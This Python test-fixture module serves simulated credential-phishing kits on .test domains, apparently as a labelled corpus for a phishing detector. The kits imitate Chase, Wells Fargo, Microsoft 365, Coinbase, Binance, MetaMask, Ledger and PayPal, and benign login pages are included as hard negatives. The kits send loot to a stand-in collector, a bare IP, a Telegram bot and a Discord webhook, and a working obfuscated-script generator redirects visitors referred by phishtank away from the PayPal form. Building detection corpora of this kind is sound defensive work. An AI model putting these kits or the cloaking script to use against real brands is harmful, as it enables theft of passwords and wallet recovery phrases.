"""Credential-phishing kits of the labelled corpus, and the ordinary pages they resemble.

Each kit is built the way the real ones are: a copied brand look on a domain the brand does not
own, and the loot leaving for somewhere else -- a collector host (gate-panel.test), a bare IP
address, a Telegram bot, a Discord webhook -- or a recovery phrase asked for at all. The
collector accepts anything; Telegram and Discord are not served (the guard blocks them): the
scan records the attempt, which is all the verdict needs.

- chase-online-verify.test: bank sign-in + anti-bot vendor list, posts to gate-panel.test
- wellsfargo-secure-alerts.test: bank sign-in + card/CVV/PIN, posts to the bare IP 127.0.0.53
- office365-mailbox-verify.test: Microsoft 365 "mailbox full" kit, e-mail autograb from the
  URL fragment, $.ajax to next.php with the classic ``ai``/``pr`` fields
- coinbase-login-secure.test: exchange login + 2-step code, sent to a Telegram bot by fetch
- binance-account-verify.test: exchange "security verification" without a <form>, password
  and SMS/authenticator codes sent to a Discord webhook
- metamask-wallet-restore.test: MetaMask "import with Secret Recovery Phrase" 12-word grid
- ledger-live-recover.test: Ledger "recover" 24-word form posting to send.php
- paypal-secure-login.test: javascript-obfuscator-style script that document.write()s the
  base64 login form at run time
- acmeboard.test (/login, /blog/) and firstcity-cu.test: hard negatives (a SaaS login and a
  credit-union login with a one-time code, both posting to their own site; a Mailchimp
  newsletter form posting an e-mail address to list-manage.com)
"""

from __future__ import annotations

import base64
import functools

from aiohttp import web

from tests.testweb.corpus import Sample
from tests.testweb.render import page, render, static
from tests.testweb.routes import ANY_PATH, Routes

routes = Routes()

GATE = "gate-panel.test"
JQUERY = "vendor/jquery-3.7.1.min.js"

CORPUS: list[Sample] = [
    Sample("phish-login-o365", "login.test", label="phishing",
           note="Microsoft 365 look-alike posting to collect.test, base64 e-mail autograb"),
    Sample("phish-bank-chase", "chase-online-verify.test", label="phishing",
           note="Chase sign-in kit with anti-bot vendor list, posts to gate-panel.test"),
    Sample("phish-bank-bare-ip", "wellsfargo-secure-alerts.test", label="phishing",
           note="Wells Fargo kit asking for card, CVV and PIN, posts to http://127.0.0.53/"),
    Sample("phish-webmail-autograb", "office365-mailbox-verify.test",
           "/owa/#dmljdGltQGFjbWVjb3JwLmV4YW1wbGU=", label="phishing",
           note="Outlook 'mailbox full' kit, e-mail from the fragment, $.ajax ai/pr to next.php"),
    Sample("phish-exchange-telegram", "coinbase-login-secure.test", label="phishing",
           note="Coinbase login + 2FA code sent to a Telegram bot"),
    Sample("phish-exchange-discord", "binance-account-verify.test", label="phishing",
           note="Binance verification, password and codes sent to a Discord webhook"),
    Sample("phish-seed-metamask", "metamask-wallet-restore.test", label="phishing",
           note="MetaMask 12-word Secret Recovery Phrase grid, fetch to gate-panel.test"),
    Sample("phish-seed-ledger", "ledger-live-recover.test", label="phishing",
           note="Ledger 24-word recovery form posting to send.php"),
    Sample("phish-obfuscated-paypal", "paypal-secure-login.test", "/signin", label="phishing",
           note="javascript-obfuscator string array + document.write(atob(form))"),
    Sample("benign-saas-login", "acmeboard.test", "/login", hard_negative=True,
           note="SaaS login posting to its own /session"),
    Sample("benign-newsletter-thirdparty", "acmeboard.test", "/blog/", hard_negative=True,
           note="Mailchimp newsletter form (e-mail only) posting to list-manage.com"),
    Sample("benign-bank-own-domain", "firstcity-cu.test", hard_negative=True,
           note="credit-union login with password + one-time code posting to its own site"),
]  # fmt: skip


def _assets(host: str, *names: str) -> None:
    """Serve static/<name> at /assets/<basename> on ``host``."""
    for name in names:
        content_type = "text/css" if name.endswith(".css") else "application/javascript"

        def make(name: str = name, content_type: str = content_type):
            async def asset(request: web.Request) -> web.Response:
                return static(name, content_type)

            return asset

        routes.route(host, "/assets/" + name.rsplit("/", 1)[-1])(make())


def _template_page(host: str, path: str, template: str, **values: str) -> None:
    async def handler(request: web.Request) -> web.Response:
        return page(request, template, **values)

    routes.route(host, path)(handler)


_template_page("chase-online-verify.test", "/", "cred-chase.html")
_assets("chase-online-verify.test", "cred-bank.css")
_template_page("wellsfargo-secure-alerts.test", "/", "cred-wellsfargo.html")
_assets("wellsfargo-secure-alerts.test", "cred-bank.css")
_template_page("office365-mailbox-verify.test", "/owa/", "cred-office365.html")
_assets("office365-mailbox-verify.test", "cred-ms.css", JQUERY)
_template_page("coinbase-login-secure.test", "/", "cred-coinbase.html")
_assets("coinbase-login-secure.test", "cred-exchange.css")
_template_page("binance-account-verify.test", "/", "cred-binance.html")
_assets("binance-account-verify.test", "cred-exchange.css")
_template_page("acmeboard.test", "/login", "cred-acme-login.html")
_template_page("acmeboard.test", "/blog/", "cred-acme-blog.html")
_assets("acmeboard.test", "cred-saas.css")
_template_page("firstcity-cu.test", "/", "cred-firstcity.html")
_assets("firstcity-cu.test", "cred-bank.css")
_assets("metamask-wallet-restore.test", "cred-wallet.css")
_assets("ledger-live-recover.test", "cred-wallet.css")
_assets("paypal-secure-login.test", "cred-paypal.css")


@routes.route("metamask-wallet-restore.test", "/")
async def metamask(request: web.Request) -> web.Response:
    return page(request, "cred-metamask.html", word_inputs=metamask_grid())


@routes.route("ledger-live-recover.test", "/")
async def ledger(request: web.Request) -> web.Response:
    return page(request, "cred-ledger.html", word_inputs=ledger_grid())


@routes.route("paypal-secure-login.test", "/signin")
async def paypal(request: web.Request) -> web.Response:
    form = render(request, "cred-paypal-form.html")
    payload = base64.b64encode(form.encode("utf-8")).decode("ascii")
    return page(request, "cred-paypal.html", script=obfuscated_writer(payload))


@routes.route(GATE, ANY_PATH)
async def gate(request: web.Request) -> web.Response:
    """The kits' collector: takes whatever it is sent, answers like a PHP mailer."""
    await request.read()
    return web.json_response({"status": "ok", "signal": "ok", "msg": "Sent"})


@functools.cache
def metamask_grid() -> str:
    """MetaMask's import-SRP grid: 12 masked inputs, as the extension's own page draws them."""
    return "\n      ".join(
        f'<div class="import-srp__srp-word"><label for="import-srp__srp-word-{i}" '
        f'class="import-srp__srp-word-label">{i + 1}.</label><input type="password" '
        f'id="import-srp__srp-word-{i}" data-testid="import-srp__srp-word-{i}" '
        f'autocomplete="off"></div>'
        for i in range(12)
    )


@functools.cache
def ledger_grid() -> str:
    return "\n      ".join(
        f'<div class="lg-word"><label for="w{i}">{i}</label><input type="text" id="w{i}" '
        f'name="word{i}" autocomplete="off" autocapitalize="none" spellcheck="false" required>'
        "</div>"
        for i in range(1, 25)
    )


# javascript-obfuscator's output shape: a rotated string array, an index decoder, hex names.
_ROTATION = 0x1B3


def obfuscated_writer(payload_b64: str) -> str:
    """A javascript-obfuscator-style script that turns away visitors referred by a phishing
    feed and ``document.write``s the base64 ``payload_b64`` (the login form)."""
    strings = ["referrer", "indexOf", "phishtank", "href", "https://www.paypal.com/signin",
               "title", "Log in to your PayPal account", payload_b64, "toLowerCase",
               "cookie", "pp_seen=1; path=/"]  # fmt: skip
    shift = _ROTATION % len(strings)
    # After the rotation loop runs _ROTATION times, index i holds strings[i].
    initial = [strings[(i - shift) % len(strings)] for i in range(len(strings))]
    array = ",".join(f"'{s}'" for s in initial)

    def at(i: int) -> str:
        return f"_0x4d74('0x{i:x}')"

    return (
        f"var _0x5a1e=[{array}];"
        "(function(_0x2d8f05,_0x4b81bb){var _0x4d74cb=function(_0x32719f){while(--_0x32719f){"
        "_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}"
        f"(_0x5a1e,0x{_ROTATION:x}));"
        "var _0x4d74=function(_0x2d8f05,_0x4b81bb){_0x2d8f05=_0x2d8f05-0x0;"
        "var _0x4d74cb=_0x5a1e[_0x2d8f05];return _0x4d74cb;};"
        "(function(){var _0x1c9e2a=document,_0x3e7f1b=window['location'];"
        f"if(_0x1c9e2a[{at(0)}][{at(8)}]()[{at(1)}]({at(2)})!==-0x1)"
        f"{{_0x3e7f1b[{at(3)}]={at(4)};return;}}"
        f"_0x1c9e2a[{at(9)}]={at(10)};_0x1c9e2a[{at(5)}]={at(6)};"
        f"document.write(atob({at(7)}));}}());"
    )
